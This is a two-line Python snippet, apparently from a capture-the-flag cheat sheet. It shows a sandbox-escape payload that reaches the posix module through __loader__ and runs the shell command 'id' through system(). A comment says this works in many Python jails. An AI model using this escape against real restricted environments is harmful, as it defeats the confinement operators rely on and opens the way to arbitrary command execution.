# __loader__ in __main__ is a module loader; BuiltinImporter in many jails
__loader__.load_module("posix").system("id")
